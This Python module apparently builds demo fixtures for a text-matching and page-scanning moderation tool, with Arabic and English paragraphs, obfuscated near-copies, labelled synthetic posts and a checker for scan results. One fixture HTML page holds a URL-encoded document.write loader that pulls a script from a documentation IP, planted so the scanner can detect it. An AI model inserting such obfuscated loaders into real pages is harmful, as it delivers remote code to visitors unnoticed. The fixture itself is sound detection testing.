"""The text half of `make demo`: known texts for a bank (as python-threatexchange `raw_text`
lines), planted obfuscated and edited copies, unrelated texts, labelled synthetic posts and two
saved pages (one with an injected loader). All generated; no real extremist content."""

from __future__ import annotations

import json
import random
from collections import Counter
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from raqib.synthetic_text import make_labelled_texts

KNOWN_PARAGRAPHS = (
    "أعلنت هيئة الأرصاد الجوية أن درجات الحرارة ستنخفض تدريجيا خلال عطلة نهاية الأسبوع، مع "
    "احتمال هطول أمطار خفيفة على المناطق الساحلية، ونصحت السائقين بتوخي الحذر على الطرق "
    "السريعة، فيما أكدت وزارة النقل أن القطارات ستعمل وفق جدولها المعتاد دون أي تغيير.",
    "The city council said on Monday that the new tram line would open in the spring after "
    "two years of works, with trains every six minutes at peak hours, and that bus routes in "
    "the old town would be redrawn to meet the stations, a spokesperson told reporters.",
    "اختتمت البطولة الإقليمية لكرة السلة مساء السبت بفوز الفريق المضيف بعد مباراة متقاربة "
    "حتى الدقائق الأخيرة، وقال المدرب إن اللاعبين الشباب أظهروا انضباطا كبيرا، فيما أعلن "
    "الاتحاد أن النسخة المقبلة ستقام في مدينة ساحلية بمشاركة ثمانية فرق.",
)
UNRELATED_PARAGRAPHS = (
    "Grain prices eased for a third week as harvest reports from the north came in above "
    "expectations, traders said, while shipping costs on the main river routes held steady.",
    "افتتحت المكتبة العامة قاعة جديدة للقراءة تضم آلاف الكتب المخصصة للأطفال، وأعلنت عن "
    "برنامج أسبوعي للقصص المصورة يبدأ مطلع الشهر المقبل بمشاركة متطوعين من الحي.",
)
# Documentation addresses only (RFC 5737), as TEST-DATA.md asks.
LOADER_PAGE = """<!doctype html><html><head><meta charset="utf-8"><title>Regional news</title>
<script>document.write(unescape('%3Cscript%20src%3D%22http%3A%2F%2F203.0.113.9%2Fjs%2Fl.js%22%3E%3C%2Fscript%3E'));</script>
</head><body><article><h1>Harbour works</h1><p>The harbour authority said dredging would
finish in June, allowing larger ferries to dock, and that night crossings would resume.</p>
</article></body></html>
"""
CLEAN_PAGE = """<!doctype html><html><head><meta charset="utf-8"><title>Weather</title>
<script src="/static/site.js"></script></head><body><main><h1>الطقس</h1>
<p>يتوقع أن يكون الطقس معتدلا غدا مع رياح خفيفة وسماء صافية في معظم المناطق.</p>
</main></body></html>
"""


@dataclass(frozen=True)
class TextSet:
    near: tuple[str, ...]  # planted copies of the bank's known texts (corpus-relative paths)
    unrelated: tuple[str, ...]
    loader_pages: tuple[str, ...]
    clean_pages: tuple[str, ...]
    expected_context: dict[str, str]  # "text/posts.jsonl#L<n>" -> the post's label


def write_known_list(path: Path) -> None:
    """The bank's known texts as `raw_text` lines (Raqib stores their text signals only)."""
    path.write_text("".join(f"raw_text {p}\n" for p in KNOWN_PARAGRAPHS), encoding="utf-8")


def write_texts(root: Path, seed: int = 0) -> TextSet:
    text = root / "text"
    for sub in ("near", "unrelated", "pages"):
        (text / sub).mkdir(parents=True, exist_ok=True)
    rng = random.Random(seed)
    near = []
    for index, paragraph in enumerate(KNOWN_PARAGRAPHS):
        (text / f"near/obfuscated_{index}.txt").write_text(_obfuscate(paragraph, rng), "utf-8")
        (text / f"near/edited_{index}.md").write_text(_edit(paragraph), "utf-8")
        near += [f"text/near/obfuscated_{index}.txt", f"text/near/edited_{index}.md"]
    unrelated = []
    for index, paragraph in enumerate(UNRELATED_PARAGRAPHS):
        (text / f"unrelated/note_{index}.txt").write_text(paragraph, "utf-8")
        unrelated.append(f"text/unrelated/note_{index}.txt")
    (text / "pages/loader.html").write_text(LOADER_PAGE, "utf-8")
    (text / "pages/clean.html").write_text(CLEAN_PAGE, "utf-8")
    return TextSet(
        near=tuple(near),
        unrelated=tuple(unrelated),
        loader_pages=("text/pages/loader.html",),
        clean_pages=("text/pages/clean.html",),
        expected_context=_write_posts(text / "posts.jsonl", seed),
    )


def _obfuscate(paragraph: str, rng: random.Random) -> str:
    """Zero-width characters and tatweel inside words: the same text to a reader."""
    out = []
    for char in paragraph:
        out.append(char)
        if char.isalpha() and rng.random() < 0.08:
            arabic = "\u0600" <= char <= "\u06ff"
            out.append(rng.choice(("\u200b", "\u200c", "ـ" if arabic else "\u200b")))
    return "".join(out)


def _edit(paragraph: str) -> str:
    """One word changed and one added: a near-duplicate, not an exact copy."""
    words = paragraph.split(" ")
    arabic = any("\u0600" <= c <= "\u06ff" for c in paragraph)
    words[len(words) // 2] = "أيضا" if arabic else "also"
    words.insert(len(words) - 2, "اليوم" if arabic else "today")
    return " ".join(words)


def _write_posts(path: Path, seed: int) -> dict[str, str]:
    posts = make_labelled_texts(60, seed=seed)
    lines = [
        json.dumps(
            {"id": f"demo-{n}", "author": f"placeholder_{n % 7}", "text": p.text},
            ensure_ascii=False,
        )
        for n, p in enumerate(posts, 1)
    ]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return {f"text/posts.jsonl#L{n}": p.label for n, p in enumerate(posts, 1)}


def check_texts(findings: dict[str, dict[str, Any]], texts: TextSet) -> tuple[bool, list[str]]:
    """Did the scan find the planted copies, only them, and the loader page? Also a confusion
    count of the labelled posts' contexts (shown, not enforced: the rules are a first pass)."""
    matched = {path for path, f in findings.items() if f["matches"]}
    missed = set(texts.near) - matched
    wrong = set(texts.unrelated) & matched
    loaders = [p for p in texts.loader_pages if not findings[p]["page"]["injected_scripts"]]
    clean = [p for p in texts.clean_pages if findings[p]["page"]["injected_scripts"]]
    lines = [
        f"planted text copies found: {len(texts.near) - len(missed)}/{len(texts.near)}",
        f"unrelated texts matched: {len(wrong)}",
        f"pages with an injected loader found: {len(texts.loader_pages) - len(loaders)}"
        f"/{len(texts.loader_pages)}; clean pages flagged: {len(clean)}",
    ]
    pairs: Counter[tuple[str, str]] = Counter()
    for where, label in texts.expected_context.items():
        pairs[(label, findings[where]["text"]["context"])] += 1
    agree = sum(n for (label, got), n in pairs.items() if label == got)
    lines.append(f"labelled posts whose context agrees: {agree}/{len(texts.expected_context)}")
    return not (missed or wrong or loaders or clean), lines
